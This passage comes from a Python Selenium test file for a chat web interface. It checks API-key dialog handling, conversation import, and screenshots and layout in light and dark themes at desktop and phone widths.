        wait(lambda: by(d, "#key-dialog").get_attribute("open") is None, what="the dialog to close")
        send(d, "hello with a key")
        answer = answered(d, 1)
        assert "state-complete" in answer.get_attribute("class"), banner_text(d)
        assert d.execute_script("return sessionStorage.getItem('r1.apiKey')") == "sk-ui-test"
        assert by(d, "#key-dialog").get_attribute("open") is None, "asked twice"
        send(d, "second message, no dialog")
        answered(d, 2)
        assert by(d, "#key-dialog").get_attribute("open") is None
        assert s.json("GET", "/api/conversations", headers={"Authorization": "Bearer sk-ui-test"})[1]["total"] == 1
    finally:
        s.stop()


# What the README's screenshots show: a conversation as R1 writes one (thinking, math, code),
# imported, then one live answer from the tiny random test model (hence its gibberish) with the
# real tokens / tok/s / TTFT line.
DEMO = {
    "format": "r1-conversation", "version": 1, "title": "Sum of the integers from 1 to 100",
    "messages": [
        {"role": "user", "content": "What is the sum of the integers from 1 to 100? Check it in Python."},
        {"role": "assistant",
         "reasoning_content": "Pair the numbers: 1+100, 2+99, ..., 50+51. That is 50 pairs of 101, "
                              "so 5050. The formula n(n+1)/2 gives 100*101/2 = 5050 too.",
         "content": "Pair the first and last numbers: each pair sums to 101 and there are 50 "
                    "pairs, which is Gauss's formula \\( \\sum_{k=1}^{n} k = \\frac{n(n+1)}{2} \\):\n\n"
                    "$$\\sum_{k=1}^{100} k = \\frac{100 \\cdot 101}{2} = 5050$$\n\n"
                    "Checked in Python:\n\n```python\nprint(sum(range(1, 101)))  # 5050\n```\n\n"
                    "So the sum is \\boxed{5050}.",
         "state": "complete"}]}


@pytest.fixture(scope="module")
def demo_server(tiny_model, tmp_path_factory):
    s = Server(tiny_model, ["--ctx-size", "512"], tmp_path_factory.mktemp("demo"))
    for title in ("Prime numbers below 50", "Explain KV caching", "A haiku about autumn"):
        s.json("POST", "/api/conversations/import", {**DEMO, "title": title, "messages": DEMO["messages"][:1]})
    yield s
    s.stop()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("name", ["desktop", "phone"])
def test_screenshots_and_layout(demo_server, browser, scheme, name):
    d = browser
    s = demo_server
    status, c = s.json("POST", "/api/conversations/import", DEMO)
    assert status == 201, c
    try:
        emulate(d, scheme, PHONE if name == "phone" else None)
        open_page(d, s, {**SETTINGS, "max_tokens": 40}, path=f"/#c={c['id']}")
        wait(lambda: all_of(d, ".message.assistant .katex"), what="the demo conversation")
        send(d, "And from 1 to 1000?")
        answered(d, 2)
        by(d, "#input").send_keys("Message being typed")
        bg = d.execute_script("return getComputedStyle(document.body).backgroundColor")
        assert (bg == "rgb(255, 255, 255)") == (scheme == "light"), bg
        width = d.execute_script("return window.innerWidth")
        assert width == (390 if name == "phone" else 1280)
        # Usable at this width: no sideways scrolling, the composer and the buttons on screen.
        assert d.execute_script("return document.documentElement.scrollWidth") <= width
        for css in ("#composer", "#send", "#input", "#open-settings", "#title"):
            r = d.execute_script("return arguments[0].getBoundingClientRect().toJSON()", by(d, css))
            assert r["left"] >= 0 and r["right"] <= width and r["width"] > 0, (css, r)
        sidebar = lambda: d.execute_script("return document.getElementById('sidebar').getBoundingClientRect().right")
        SHOTS.mkdir(parents=True, exist_ok=True)
        if name == "phone":
            assert sidebar() <= 0, "the sidebar is a drawer at phone width"
            d.save_screenshot(str(SHOTS / f"{name}-{scheme}.png"))
            by(d, "#open-sidebar").click()
            wait(lambda: sidebar() > 300, what="the drawer to open")
            assert d.execute_script("return document.documentElement.scrollWidth") <= width
            by(d, "#close-sidebar").click()
            wait(lambda: sidebar() <= 0, what="the drawer to close")
        else:
            assert sidebar() > 200
            d.save_screenshot(str(SHOTS / f"{name}-{scheme}.png"))
        png = (SHOTS / f"{name}-{scheme}.png").read_bytes()
        size = (int.from_bytes(png[16:20], "big"), int.from_bytes(png[20:24], "big"))
        assert size[0] == (780 if name == "phone" else 1280), size  # phone: 390 CSS px at 2x
    finally:
        emulate(d)
        s.request("DELETE", f"/api/conversations/{c['id']}")
